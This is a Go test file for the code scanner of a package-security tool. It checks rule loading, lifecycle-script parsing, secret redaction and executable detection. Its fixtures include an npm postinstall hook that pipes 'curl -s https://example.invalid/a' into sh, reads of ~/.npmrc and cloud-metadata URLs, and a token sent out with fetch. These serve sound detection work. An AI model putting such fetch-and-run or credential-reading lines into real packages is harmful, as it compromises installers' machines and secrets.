package codescan

import (
	"errors"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/pkgward/pkgward/internal/artifact"
	"github.com/pkgward/pkgward/internal/record"
)

func treeOf(files map[string]string) *artifact.Tree {
	tr := &artifact.Tree{Format: "dir"}
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	slices.Sort(names)
	for _, n := range names {
		tr.Files = append(tr.Files, artifact.File{Path: n, Size: int64(len(files[n])), Data: []byte(files[n])})
	}
	return tr
}

func rulesOf(fs []record.Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Rule)
	}
	return out
}

func TestDefaultRulesLoad(t *testing.T) {
	rs := DefaultRules()
	cat := rs.Rules()
	if len(cat) < 20 {
		t.Fatalf("only %d rules", len(cat))
	}
	for _, r := range cat {
		if r.Title == "" || r.Description == "" {
			t.Errorf("%s: no title or description", r.ID)
		}
		if r.ID == "network-send" || r.ID == "process-exec" {
			t.Errorf("hidden rule %s in the catalog", r.ID)
		}
	}
	// DefaultRules hands out independent sets.
	a, b := DefaultRules(), DefaultRules()
	extra, err := LoadRules("extra.yaml", []byte("version: 1\nrules:\n  - id: extra-rule\n    title: t\n    patterns:\n      - literals: [\"zzzextra\"]\n"))
	if err != nil {
		t.Fatal(err)
	}
	a.Merge(extra)
	if len(a.Rules()) != len(b.Rules())+1 {
		t.Errorf("Merge on one default set changed another")
	}
}

func TestLoadRulesErrors(t *testing.T) {
	cases := []struct {
		name, src string
		line      int
		msg       string
	}{
		{"empty", "", 0, "empty"},
		{"syntax", "version: 1\nrules: [\n", 2, "expected"},
		{"unknown field", "version: 1\nrules:\n  - id: a\n    title: t\n    bogus: 1\n", 5, "bogus"},
		{"version", "version: 2\nrules: []\n", 1, "version"},
		{"bad id", "version: 1\nrules:\n  - id: Bad_Id\n    title: t\n", 3, "rule id"},
		{"duplicate", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns: [{literals: [abc]}]\n  - id: a\n    title: t\n    patterns: [{literals: [abc]}]\n", 6, "twice"},
		{"no patterns", "version: 1\nrules:\n  - id: a\n    title: t\n", 3, "never fire"},
		{"short literal", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [ab]\n", 6, "shorter"},
		{"bad regex", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [abc]\n        regex: '('\n", 6, "regex"},
		{"bad severity", "version: 1\nrules:\n  - id: a\n    title: t\n    severity: huge\n    patterns: [{literals: [abc]}]\n", 3, "severity"},
		{"bad language", "version: 1\nrules:\n  - id: a\n    title: t\n    languages: [cobol]\n    patterns: [{literals: [abc]}]\n", 3, "cobol"},
		{"bad context", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [abc]\n        context: [docs]\n", 6, "context"},
		{"unknown requires", "version: 1\nrules:\n  - id: a\n    title: t\n    requires: [nope]\n    patterns: [{literals: [abc]}]\n", 3, "nope"},
		{"unknown with", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns: [{literals: [abc]}]\n    escalate:\n      - with: [nope]\n        severity: high\n", 7, "nope"},
		{"unknown detector", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - detector: magic\n", 6, "detector"},
		{"cycle", "version: 1\nrules:\n  - id: a\n    title: t\n    requires: [b]\n    patterns: [{literals: [abc]}]\n  - id: b\n    title: t\n    requires: [a]\n    patterns: [{literals: [abc]}]\n", 0, "cycle"},
		{"bad glob", "version: 1\nrules:\n  - id: a\n    title: t\n    files: ['[']\n    patterns: [{literals: [abc]}]\n", 3, "files"},
		{"bad not-files glob", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: [abc]\n        not-files: ['[']\n", 6, "allow"},
		// Values of the wrong type are named by key, in YAML's words.
		{"string for a list", "version: 1\nrules:\n  - id: a\n    title: t\n    languages: javascript\n", 5, "`languages` must be a list of strings, not the string `javascript`"},
		{"list for a string", "version: 1\nrules:\n  - id: a\n    title: t\n    severity: [high]\n", 5, "`severity` must be a string, not a list"},
		{"string for a number", "version: 1\nrules:\n  - id: a\n    title: t\n    confidence: high\n", 5, "`confidence` must be a number, not the string `high`"},
		{"quoted version", "version: \"1\"\nrules: []\n", 1, "`version` must be a whole number, not the string `1`"},
		{"mapping for a list", "version: 1\nrules: {}\n", 2, "`rules` must be a list, not a mapping"},
		{"list item", "version: 1\nrules:\n  - id: a\n    title: t\n    patterns:\n      - literals: abc\n", 6, "`literals` must be a list of strings"},
		{"no key on the line", "version: 1\nrules:\n  - id: a\n    title: t\n    severity:\n      - high\n", 6, "a string expected, not a list"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := LoadRules("my.yaml", []byte(c.src))
			var ie *record.InputError
			if !errors.As(err, &ie) {
				t.Fatalf("want *record.InputError, got %v", err)
			}
			if ie.File != "my.yaml" || ie.Line != c.line || !strings.Contains(ie.Msg, c.msg) {
				t.Errorf("got %q (line %d), want line %d and %q", err, ie.Line, c.line, c.msg)
			}
			if strings.Contains(ie.Msg, "!!") || strings.Contains(ie.Msg, "unmarshal") {
				t.Errorf("message %q speaks YAML library", ie.Msg)
			}
		})
	}
}

func TestMerge(t *testing.T) {
	user, err := LoadRules("user.yaml", []byte(`version: 1
install-time:
  - /scripts/bootstrap.js
rules:
  - id: internal-host
    title: talks to the old build farm
    severity: medium
    patterns:
      - literals: ["buildfarm.example.invalid"]
    escalate:
      - with: [network-send]
        severity: high
  - id: cloud-metadata
    disabled: true
  - id: secret-scanner-download
    title: names a secret scanner (ours)
    severity: info
    patterns:
      - literals: ["trufflehog"]
`))
	if err != nil {
		t.Fatal(err)
	}
	rs := DefaultRules()
	rs.Merge(user)
	tr := treeOf(map[string]string{
		"scripts/bootstrap.js": "const h = require('https');\nh.get('https://buildfarm.example.invalid/x');\nfetch('http://169.254.169.254/');\n// trufflehog\nconst t = 'trufflehog';\n",
	})
	got := Scan(tr, rs)
	ids := rulesOf(got)
	if !slices.Contains(ids, "internal-host") || slices.Contains(ids, "cloud-metadata") {
		t.Fatalf("got %v", ids)
	}
	for _, f := range got {
		switch f.Rule {
		case "internal-host":
			if f.Severity != record.High || f.Evidence["install_time"] != true {
				t.Errorf("internal-host: %s %v", f.Severity, f.Evidence)
			}
		case "secret-scanner-download":
			if f.Severity != record.Info {
				t.Errorf("replaced rule kept the old grading: %s", f.Severity)
			}
		}
	}
	cat := rs.Rules()
	if slices.ContainsFunc(cat, func(r record.Rule) bool { return r.ID == "cloud-metadata" }) {
		t.Error("disabled rule still in the catalog")
	}
}

// TestPatternNotFiles: a pattern is not tried on files its not-files
// globs match; the rule's other patterns still are.
func TestPatternNotFiles(t *testing.T) {
	user, err := LoadRules("user.yaml", []byte(`version: 1
rules:
  - id: acme-marker
    title: names the marker
    patterns:
      - name: marker
        literals: ["ACME_MARKER"]
        not-files: ["*_test.go", "/testdata/**"]
      - name: other marker
        literals: ["ACME_OTHER"]
`))
	if err != nil {
		t.Fatal(err)
	}
	src := "package x\n\nconst m = \"ACME_MARKER\"\n"
	for _, c := range []struct {
		path string
		want bool
	}{{"x/x.go", true}, {"x/x_test.go", false}, {"testdata/y/y.go", false}} {
		got := slices.Contains(rulesOf(Scan(treeOf(map[string]string{c.path: src}), user)), "acme-marker")
		if got != c.want {
			t.Errorf("%s: fired %v, want %v", c.path, got, c.want)
		}
	}
	if got := Scan(treeOf(map[string]string{"x/x_test.go": "package x\n\nconst m = \"ACME_OTHER\"\n"}), user); !slices.Contains(rulesOf(got), "acme-marker") {
		t.Errorf("the other pattern must still fire in a test file, got %v", rulesOf(got))
	}
}

func TestUserRuleMayRequireDefaults(t *testing.T) {
	user, err := LoadRules("user.yaml", []byte(`version: 1
rules:
  - id: token-beacon
    title: sends an internal token
    severity: high
    requires: [network-send]
    patterns:
      - literals: ["ACME_INTERNAL_TOKEN"]
`))
	if err != nil {
		t.Fatal(err)
	}
	rs := DefaultRules()
	rs.Merge(user)
	if got := Scan(treeOf(map[string]string{"a.js": "const t = process.env.ACME_INTERNAL_TOKEN;\n"}), rs); len(got) != 0 {
		t.Errorf("fired without network-send: %v", rulesOf(got))
	}
	got := Scan(treeOf(map[string]string{"a.js": "const t = process.env.ACME_INTERNAL_TOKEN;\nfetch('https://example.invalid/', {body: t});\n"}), rs)
	if !slices.Contains(rulesOf(got), "token-beacon") {
		t.Errorf("want token-beacon, got %v", rulesOf(got))
	}
}

func TestLifecycle(t *testing.T) {
	pkg := `{
  "name": "x",
  "scripts": {
    "build": "tsc && node scripts/gen.js",
    "postinstall": "npm run setup",
    "setup": "cross-env FOO=1 node ./scripts/setup && node -e \"require('child_process').execSync('curl -s https://example.invalid/a | sh')\"",
    "preinstall": "prebuild-install || node-gyp rebuild"
  }
}`
	tr := treeOf(map[string]string{
		"package.json":     pkg,
		"scripts/setup.js": "const fs = require('fs');\nfs.readFileSync(require('os').homedir() + '/.npmrc');\n",
		"scripts/gen.js":   "fs.readFileSync('.npmrc')\n",
	})
	files, _ := collect(tr, DefaultRules())
	var pieces []string
	for _, f := range files {
		if f.piece {
			pieces = append(pieces, f.script+"|"+f.lang.String()+"|"+string(f.data))
		}
		switch f.path {
		case "scripts/setup.js":
			if !f.install || f.runBy != "postinstall → setup" {
				t.Errorf("setup.js: install %v run by %q", f.install, f.runBy)
			}
		case "scripts/gen.js":
			if f.install {
				t.Error("gen.js is run by build, not at install")
			}
		}
	}
	want := []string{
		"preinstall|shell|prebuild-install\nnode-gyp rebuild",
		"postinstall|shell|npm run setup",
		"postinstall → setup|shell|cross-env FOO=1 node ./scripts/setup\nnode -e \"require('child_process').execSync('curl -s https://example.invalid/a | sh')\"",
		"postinstall → setup|javascript|require('child_process').execSync('curl -s https://example.invalid/a | sh')",
	}
	if !slices.Equal(pieces, want) {
		t.Errorf("pieces:\n%q\nwant\n%q", pieces, want)
	}
	got := Scan(tr, DefaultRules())
	for _, f := range got {
		if f.Rule == "download-exec" {
			if f.Evidence["location"] != "package.json:6" || f.Severity < record.High {
				t.Errorf("download-exec: %s %v", f.Severity, f.Evidence)
			}
			return
		}
	}
	t.Errorf("no download-exec from the inline node -e code:%s", describe(got))
}

func TestSplitCommands(t *testing.T) {
	got := splitCommands(`a && b || c; d "x && y" 'p;q' | e`)
	want := []string{"a", "b", "c", `d "x && y" 'p;q' | e`}
	if !slices.Equal(got, want) {
		t.Errorf("got %q", got)
	}
	if w := shellWords(`node -e "console.log(\"hi\")" 'a b'`); !slices.Equal(w, []string{"node", "-e", `console.log("hi")`, "a b"}) {
		t.Errorf("words %q", w)
	}
}

func TestRedact(t *testing.T) {
	cases := map[string]string{
		"https://discord.com/api/webhooks/123456789012345678/AbCdEf_ghIJ-klmn":                 "https://discord.com/api/webhooks/***",
		"https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage": "https://api.telegram.org/bot***/sendMessage",
		"//registry.example.invalid/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789":      "//registry.example.invalid/:_authToken=***",
		"const token = 'ghp_aaaaBBBBccccDDDDeeeeFFFFgggg1234';":                                "const token = '***';",
		"key: AKIAABCDEFGHIJKLMNOP":                                         "key: ***",
		"blob = 'Y29uc29sZS5sb2coImRlZmFuZ2VkIGZpeHR1cmUiKTs='":             "blob = 'Y29uc2***'",
		"path.join(home, '.aws/credentials')":                               "path.join(home, '.aws/credentials')",
		"http://169.254.169.254/latest/meta-data/iam/security-credentials/": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"const application_default_credentials_file_name = 1":               "const application_default_credentials_file_name = 1",
	}
	for in, want := range cases {
		if got := redact(in); got != want {
			t.Errorf("redact(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestSnippet(t *testing.T) {
	long := strings.Repeat("a = b + c; ", 100) + "eval(atob(x))" + strings.Repeat(" ; d = e", 100)
	i := strings.Index(long, "eval")
	s := snippet([]byte("line1\n"+long+"\nline3"), i+6, i+6+5)
	if !strings.HasPrefix(s, "…") || !strings.HasSuffix(s, "…") || !strings.Contains(s, "eval(atob(x))") || strings.Contains(s, "\n") {
		t.Errorf("snippet %q", s)
	}
	if n := len([]rune(s)); n > snippetMax+2 {
		t.Errorf("snippet of %d runes", n)
	}
}

func TestGlob(t *testing.T) {
	cases := []struct {
		pat, path string
		want      bool
	}{
		{"setup.py", "setup.py", true},
		{"setup.py", "pkg/setup.py", true},
		{"/setup.py", "pkg/setup.py", false},
		{"/*/setup.py", "pkg-1.0/setup.py", true},
		{"/build/**/*.targets", "build/net6.0/Acme.targets", true},
		{"/build/**/*.targets", "build/Acme.targets", true},
		{"/build/**/*.targets", "lib/build/Acme.targets", false},
		{"/ext/**/extconf.rb", "ext/acme/extconf.rb", true},
		{"/tools/install.ps1", "Tools/Install.ps1", true},
		{"*.pth", "site/distutils-precedence.pth", true},
		{"/a/**", "a/", true},
		{"/a/*", "a/", true},
		{"/a/b", "a//b", false},
		{"/a/**/z", "a/" + strings.Repeat("b/", 20) + "z", true}, // more segments than the stack buffer
		{"/a/**/z", "a/" + strings.Repeat("b/", 20) + "y", false},
	}
	for _, c := range cases {
		if got := splitSlash(nil, c.path); !slices.Equal(got, strings.Split(c.path, "/")) {
			t.Errorf("splitSlash(%q) = %q", c.path, got)
		}
		g, err := compileGlob(c.pat)
		if err != nil {
			t.Fatal(err)
		}
		if got := g.match(c.path); got != c.want {
			t.Errorf("%s ~ %s = %v", c.pat, c.path, got)
		}
	}
}

func TestPublicIP(t *testing.T) {
	for ip, want := range map[string]bool{
		"8.8.8.8": true, "203.0.113.5": true, "10.1.2.3": false, "127.0.0.1": false, "192.168.0.1": false,
		"172.16.0.1": false, "172.32.0.1": true, "169.254.169.254": false, "100.64.0.1": false, "224.0.0.1": false,
		"256.1.1.1": false, "01.2.3.4": false, "0.0.0.0": false,
	} {
		if got := publicIPv4(ip); got != want {
			t.Errorf("publicIPv4(%s) = %v", ip, got)
		}
	}
}

func TestExecutableMagic(t *testing.T) {
	pe := make([]byte, 0x100)
	copy(pe, "MZ")
	pe[0x3c] = 0x80
	copy(pe[0x80:], "PE\x00\x00")
	for name, c := range map[string]struct {
		data []byte
		want bool
	}{
		"elf":       {[]byte("\x7fELF\x02\x01\x01\x00xxxxxxxx"), true},
		"pe":        {pe, true},
		"mz only":   {append([]byte("MZ"), make([]byte, 100)...), false},
		"macho64":   {[]byte("\xcf\xfa\xed\xfe\x07\x00\x00\x01"), true},
		"fat macho": {[]byte("\xca\xfe\xba\xbe\x00\x00\x00\x02"), true},
		"java":      {[]byte("\xca\xfe\xba\xbe\x00\x00\x00\x34"), false},
		"text":      {[]byte("hello world"), false},
	} {
		if got := isExecutable(c.data); got != c.want {
			t.Errorf("%s: %v", name, got)
		}
	}
}

// TestRulesYAMLIsSelfConsistent: regexes are matched around a literal hit
// (never anchored to the start of a line they do not see whole).
func TestRulesYAMLIsSelfConsistent(t *testing.T) {
	rs := DefaultRules()
	for _, r := range rs.rules {
		for _, p := range r.patterns {
			if p.re == nil {
				continue
			}
			if strings.HasPrefix(p.re.String(), "^") {
				t.Errorf("%s/%s: regexes are matched around a hit, not from the line start", r.id, p.name)
			}
			_ = regexp.MustCompile(p.re.String())
		}
	}
}
